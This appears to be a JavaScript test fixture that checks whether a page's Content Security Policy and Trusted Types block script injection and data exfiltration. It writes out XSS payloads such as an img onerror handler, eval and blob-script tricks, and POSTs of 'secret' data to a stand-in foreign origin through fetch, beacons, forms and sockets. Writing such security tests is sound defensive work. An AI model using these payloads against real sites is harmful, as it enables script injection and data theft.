// Owns: the attacks of delivery.spec.ts. Served as a file of the page's own origin, so that they run as the page's
// code would after a successful injection: code that a test evaluates is exempt from the policy.
//
// `window.attack(foreign)` tries all of them and answers with [name, outcome] pairs; only "blocked" is good.
window.attack = async (foreign) => {
  // A task of the page's own: what a test calls directly may use eval.
  await new Promise((resolve) => setTimeout(resolve, 0));
  const done = {};
  window.attackDone = done;
  const outcomes = [];
  const later = [];

  /** An attack that must throw, or reject. */
  const throws = async (name, run) => {
    try {
      await run();
      outcomes.push([name, "went through"]);
    } catch {
      outcomes.push([name, "blocked"]);
    }
  };
  /** An attack that may be silently ignored: what it would have done is asked at the end. */
  const silent = (name, run, succeeded = () => done[name]) => {
    try {
      run();
    } catch {
      // Thrown is as good as ignored; what counts is asked below.
    }
    later.push([name, succeeded]);
  };
  const element = (tag, properties = {}) => Object.assign(document.createElement(tag), properties);
  const insert = (node) => document.body.append(node);

  // ---- code from text
  await throws("eval", () => (0, eval)("1"));
  await throws("new Function", () => new Function("return 1")());
  await throws("import of a data: address", () => import("data:text/javascript,export default 1"));
  await throws("import from another origin", () => import(`${foreign}import.js`));
  silent("timer with text", () => setTimeout("window.attackDone['timer with text'] = true", 0));
  silent("inline handler", () => {
    const button = element("button");
    button.setAttribute("onclick", "window.attackDone['inline handler'] = true");
    insert(button);
    button.click();
  });
  silent("javascript: link", () => {
    const link = element("a", { href: "javascript:void(window.attackDone['javascript: link'] = true)" });
    insert(link);
    link.click();
  });
  silent("inline script", () => insert(element("script", { textContent: "window.attackDone['inline script'] = true" })));
  silent("inline script by a text node", () => {
    const script = element("script");
    script.append(document.createTextNode("window.attackDone['inline script by a text node'] = true"));
    insert(script);
  });

  // ---- markup from text
  const payload = (name) => `<img src="missing.png" onerror="window.attackDone['${name}'] = true">`;
  await throws("innerHTML", () => (element("div").innerHTML = payload("innerHTML")));
  await throws("outerHTML", () => {
    const node = element("div");
    insert(node);
    node.outerHTML = payload("outerHTML");
  });
  await throws("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", payload("insertAdjacentHTML")));
  await throws("document.write", () => document.write("<script>window.attackDone['document.write'] = true</script>"));
  await throws("createContextualFragment", () => document.createRange().createContextualFragment(payload("createContextualFragment")));
  await throws("srcdoc", () => {
    const frame = element("iframe");
    frame.srcdoc = "<script>parent.attackDone['srcdoc'] = true</script>";
    insert(frame);
  });
  await throws("markup with a javascript: link", () => (element("div").innerHTML = '<a href="javascript:1">x</a>'));
  await throws("another Trusted Types policy", () => window.trustedTypes.createPolicy("mine", { createHTML: (text) => text }));

  // ---- code and workers by address
  await throws("script of another origin", () => insert(element("script", { src: `${foreign}script.js` })));
  await throws("script of another origin by attribute", () => {
    const script = element("script");
    script.setAttribute("src", `${foreign}script-attribute.js`);
    insert(script);
  });
  await throws("script from a blob", () => insert(element("script", { src: URL.createObjectURL(new Blob(["window.attackDone['script from a blob'] = true"])) })));
  await throws("worker from a blob", () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))));
  await throws("worker of another origin", () => new Worker(`${foreign}worker.js`));

  // ---- sending data away; the other origin's log is what counts
  await throws("fetch", () => fetch(`${foreign}fetch`, { method: "POST", body: "data", mode: "no-cors" }));
  silent("XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("POST", `${foreign}xhr`);
    request.send("data");
  });
  silent("beacon", () => navigator.sendBeacon(`${foreign}beacon`, "data"));
  silent("WebSocket", () => new WebSocket(`${foreign.replace("http", "ws")}socket`));
  silent("EventSource", () => new EventSource(`${foreign}events`));
  silent("image", () => insert(element("img", { src: `${foreign}image.png` })));
  silent("video", () => insert(element("video", { src: `${foreign}video.mp4` })));
  silent("frame", () => insert(element("iframe", { src: `${foreign}frame.html` })));
  silent("object", () => insert(element("object", { data: `${foreign}object` })));
  silent("embed", () => insert(element("embed", { src: `${foreign}embed` })));
  silent("style sheet of another origin", () => document.head.append(element("link", { rel: "stylesheet", href: `${foreign}style.css` })));
  silent("prefetch", () => document.head.append(element("link", { rel: "prefetch", href: `${foreign}prefetch` })));
  silent("manifest", () => document.head.append(element("link", { rel: "manifest", href: `${foreign}manifest` })));
  silent("icon", () => document.head.append(element("link", { rel: "icon", href: `${foreign}icon.png` })));
  silent("font", () => document.fonts.add(new FontFace("away", `url(${foreign}font.woff2)`)) || document.fonts.load("12px away"));
  silent("background image", () => {
    const node = element("div", { textContent: "x" });
    node.style.backgroundImage = `url(${foreign}background.png)`;
    insert(node);
  });
  silent("form", () => {
    const form = element("form", { method: "post", action: `${foreign}form` });
    form.append(element("input", { name: "secret", value: "data" }));
    insert(form);
    form.submit();
  });
  silent("form to the own origin", () => {
    const form = element("form", { method: "get", action: "stolen.html" });
    insert(form);
    form.submit();
  });
  silent(
    "base",
    () => document.head.append(element("base", { href: foreign })),
    () => document.baseURI.startsWith(foreign),
  );

  // ---- style
  const red = "rgb(1, 2, 3)";
  const styled = element("p", { textContent: "x" });
  insert(styled);
  silent(
    "style attribute",
    () => styled.setAttribute("style", `color: ${red}`),
    () => getComputedStyle(styled).color === red,
  );
  const sheeted = element("p", { id: "sheeted" });
  insert(sheeted);
  silent(
    "style element",
    () => insert(element("style", { textContent: `#sheeted { color: ${red} }` })),
    () => getComputedStyle(sheeted).color === red,
  );

  await new Promise((resolve) => setTimeout(resolve, 1000));
  for (const [name, succeeded] of later) outcomes.push([name, succeeded() ? "went through" : "blocked"]);
  // Nor may anything have run that was only expected to throw.
  for (const name of Object.keys(done)) outcomes.push([name, "went through"]);
  return outcomes;
};
